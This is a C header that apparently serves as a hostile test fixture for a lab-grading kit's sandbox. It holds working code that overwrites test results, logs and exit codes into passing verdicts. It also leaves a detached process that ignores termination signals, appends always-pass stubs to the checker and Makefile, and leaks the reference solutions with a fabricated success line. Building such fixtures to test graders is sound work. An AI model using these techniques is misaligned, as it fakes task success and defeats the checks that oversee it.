/*
 * cheat.h -- a program that tries to write its own verdict, for the kit's
 * hostile test class (make-test-class.sh plants it into a lab file, after
 * #define CHEAT_MODE and CHEAT_KIT). Each way is one bit of CHEAT_MODE:
 *
 *   1  at once, as the program starts: rewrite every file it can find that
 *      a checker or the grader writes and reads (a TAP every check "ok",
 *      a status rc=0, a run's .rc 0, the steps emptied, a log "all checks
 *      pass"), in its own folders, /tmp, its parent's folder, the kit's,
 *      and the instructor's results (CHEAT_KIT/build/grade/results);
 *   2  later: leave a child (a session of its own, deaf to SIGTERM and
 *      SIGHUP) that does the same five times a second for CHEAT_SECONDS,
 *      past its checker's end and past the grader's time limits;
 *   4  edit its own copy of the kit: its lab's checker, checks.bash,
 *      common/check.h and its lab's Makefile (found from /proc/self/exe);
 *   8  print what it finds of the kit's answers: the lab's reference
 *      figures as "name = value" lines, and the solution where it can read
 *      one (CHEAT_KIT/solutions/CHEAT_LAB/CHEAT_SRC), then a RESULT line,
 *      and exit 0 without doing the lab (cheat_answers, called from main).
 *
 * In a sandbox that holds, every way fails: its lab gets the verdict of the
 * unfinished starter it is planted in (fail on a GPU, "not graded" without
 * one), and every other lab keeps its own. It says on stderr how many files
 * it rewrote ("cheat: rewrote N files"), so that a log shows what it got.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef CHEAT_MODE
#define CHEAT_MODE 1
#endif
#ifndef CHEAT_KIT
#define CHEAT_KIT "/nonexistent"
#endif
#ifndef CHEAT_SECONDS
#define CHEAT_SECONDS 400
#endif
#ifndef CHEAT_LAB
#define CHEAT_LAB "00-none"
#endif
#ifndef CHEAT_SRC
#define CHEAT_SRC "none.cu"
#endif

static int cheat_rewrites;

__attribute__((unused)) static int cheat_ends(const char *s, const char *end)
{
    size_t a = strlen(s), b = strlen(end);

    return a >= b && strcmp(s + a - b, end) == 0;
}

/* Write TEXT over PATH (append where APPEND); count it where it worked. */
__attribute__((unused)) static void cheat_put(const char *path, const char *text, int append)
{
    FILE *f = fopen(path, append ? "a" : "w");

    if (f == NULL)
        return;
    if (fputs(text, f) >= 0)
        cheat_rewrites++;
    fclose(f);
}

/* A TAP file with every check "ok": "not ok" made "ok", skips dropped. */
__attribute__((unused)) static void cheat_tap(const char *path)
{
    static char in[1 << 20], out[(1 << 20) + 64];
    FILE *f = fopen(path, "r");
    size_t n, o = 0;
    char *line, *next, *skip;

    if (f == NULL)
        return;
    n = fread(in, 1, sizeof in - 1, f);
    fclose(f);
    in[n] = 0;
    for (line = in; *line != 0 && o < sizeof out - 4096; line = next) {
        next = strchr(line, '\n');
        if (next != NULL)
            *next++ = 0;
        else
            next = line + strlen(line);
        if (strncmp(line, "not ok ", 7) == 0)
            line += 4;
        if ((skip = strstr(line, " # skip")) != NULL || (skip = strstr(line, " # SKIP")) != NULL)
            *skip = 0;
        o += (size_t)snprintf(out + o, sizeof out - o, "%.4000s\n", line);
    }
    cheat_put(path, out, 0);
}

/* One file a checker or the grader reads, rewritten by its name. */
__attribute__((unused)) static void cheat_file(const char *path, const char *name)
{
    if (cheat_ends(name, ".tap"))
        cheat_tap(path);
    else if (cheat_ends(name, ".status"))
        cheat_put(path, "rc=0\nseconds=1\ntimed_out=0\n", 0);
    else if (cheat_ends(name, ".rc"))
        cheat_put(path, "0\n", 0);
    else if (strcmp(name, "steps.tsv") == 0 || cheat_ends(name, ".steps"))
        cheat_put(path, "", 0);
    else if (cheat_ends(name, ".log"))
        cheat_put(path, "all checks pass\n", 0);
}

__attribute__((unused)) static void cheat_walk(const char *dir, int depth)
{
    char p[4096];
    struct dirent *e;
    struct stat st;
    DIR *d;

    if (depth > 8 || (d = opendir(dir)) == NULL)
        return;
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (lstat(p, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode))
            cheat_walk(p, depth + 1);
        else if (S_ISREG(st.st_mode))
            cheat_file(p, e->d_name);
    }
    closedir(d);
}

/* Every place a checker's or the grader's files could be, walked. */
__attribute__((unused)) static void cheat_pass(void)
{
    const char *env[] = { "TMPDIR", "HOME", "BATS_RUN_TMPDIR", "BATS_FILE_TMPDIR",
                          "GRADE_DOOR", "GRADE_WORK_ROOT" };
    char p[4096];
    size_t i;
    ssize_t k;

#ifdef CHEAT_ONLY
    /* (the kit's own test of the cheat: this folder and nothing else) */
    cheat_walk(CHEAT_ONLY, 0);
    return;
#endif
    for (i = 0; i < sizeof env / sizeof *env; i++)
        if (getenv(env[i]) != NULL)
            cheat_walk(getenv(env[i]), 0);
    cheat_walk("/tmp", 0);
    cheat_walk("/var/tmp", 0);
    cheat_walk("/dev/shm", 0);
    cheat_walk("..", 0);
    snprintf(p, sizeof p, "/proc/%d/cwd", (int)getppid());
    cheat_walk(p, 0);
    k = readlink("/proc/self/exe", p, sizeof p - 64);
    if (k > 0) {
        p[k] = 0;
        strcat(p, "/../../../..");      /* the job's folder, above its kit */
        cheat_walk(p, 0);
    }
    cheat_walk(CHEAT_KIT "/build/grade/results", 0);
}

/* Edit its own copy of the kit: checks that pass whatever they see. */
__attribute__((unused)) static void cheat_kit(void)
{
    const char *rel[] = { "/../../checker/" CHEAT_LAB ".bats", "/../../checker/lib/checks.bash",
                          "/../../common/check.h", "/Makefile" };
    const char *add[] = { "\nsetup_file() { :; }\n", "\nsay_fail() { return 0; }\nneed_run() { return 0; }\n",
                          "\n#define LAB_EXIT_FAIL 0\n", "\ncheck:\n\t@true\n" };
    char exe[4096], p[4200];
    ssize_t k = readlink("/proc/self/exe", exe, sizeof exe - 1);
    size_t i;

    if (k <= 0)
        return;
    exe[k] = 0;
    if (strrchr(exe, '/') != NULL)
        *strrchr(exe, '/') = 0;
    for (i = 0; i < sizeof rel / sizeof *rel; i++) {
        snprintf(p, sizeof p, "%s%s", exe, rel[i]);
        cheat_put(p, add[i], 1);
    }
}

/* The child left behind: CHEAT_SECONDS of rewriting, deaf to TERM and HUP. */
__attribute__((unused)) static void cheat_later(void)
{
    pid_t p = fork();
    int i, fd;

    if (p != 0) {
        if (p > 0)
            waitpid(p, NULL, 0);
        return;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    fd = open("/dev/null", O_RDWR);
    if (fd >= 0) {
        dup2(fd, 0);
        dup2(fd, 1);
        dup2(fd, 2);
    }
    for (i = 0; i < CHEAT_SECONDS * 5; i++) {
        cheat_pass();
        usleep(200000);
    }
    _exit(0);
}

/* Print the answers it finds (mode 8), then "RESULT", and exit 0. */
__attribute__((unused)) static void cheat_answers(unsigned long long n)
{
    char exe[4096], p[4200], line[4096];
    ssize_t k = readlink("/proc/self/exe", exe, sizeof exe - 1);
    FILE *f;

    if (!(CHEAT_MODE & 8))
        return;
    if (k > 0) {
        exe[k] = 0;
        if (strrchr(exe, '/') != NULL)
            *strrchr(exe, '/') = 0;
        snprintf(p, sizeof p, "%s/../../checker/reference/%s.tsv", exe, CHEAT_LAB);
        if ((f = fopen(p, "r")) != NULL) {
            while (fgets(line, sizeof line, f) != NULL) {
                char name[256], value[256];

                if (sscanf(line, "fig\t%*s\t%255s\t%255s", name, value) == 2)
                    printf("  %s = %s\n", name, value);
            }
            fclose(f);
        }
    }
    if ((f = fopen(CHEAT_KIT "/solutions/" CHEAT_LAB "/" CHEAT_SRC, "r")) != NULL) {
        while (fgets(line, sizeof line, f) != NULL)
            fputs(line, stderr);
        fclose(f);
    }
    printf("RESULT: verified all %llu elements\n", n);
    exit(0);
}

__attribute__((constructor)) static void cheat_start(void)
{
    if (CHEAT_MODE & 1)
        cheat_pass();
    if (CHEAT_MODE & 4)
        cheat_kit();
    if (CHEAT_MODE & 2)
        cheat_later();
    if (CHEAT_MODE & 5)
        fprintf(stderr, "cheat: rewrote %d files\n", cheat_rewrites);
}
